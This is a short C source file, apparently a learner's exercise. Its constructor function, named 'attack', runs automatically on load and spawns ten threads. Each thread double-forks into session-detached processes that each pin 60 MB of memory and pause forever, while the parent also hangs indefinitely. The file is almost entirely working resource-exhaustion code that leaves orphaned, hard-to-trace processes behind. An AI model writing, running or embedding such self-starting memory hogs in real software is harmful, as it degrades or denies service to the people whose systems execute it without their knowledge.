/*
 * herds.c: a learner's file that takes little memory in each of many processes. Each is started by
 * another thread, and neither has the parent that it began with nor the session.
 */
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define EACH (60 << 20)

void attack(void) __attribute__((constructor));

static void *breed(void *none)
{
	char *memory;

	if (fork() == 0) {
		(void)setsid();
		memory = malloc(EACH);
		if (fork() != 0 || !memory)
			_exit(0);
		memset(memory, 1, EACH);
		for (;;)
			(void)pause();
	}
	return none;
}

void attack(void)
{
	pthread_t thread;
	int i;

	for (i = 0; i < 10; i++) {
		if (pthread_create(&thread, NULL, breed, NULL) == 0)
			(void)pthread_join(thread, NULL);
	}
	for (;;)
		(void)pause();
}
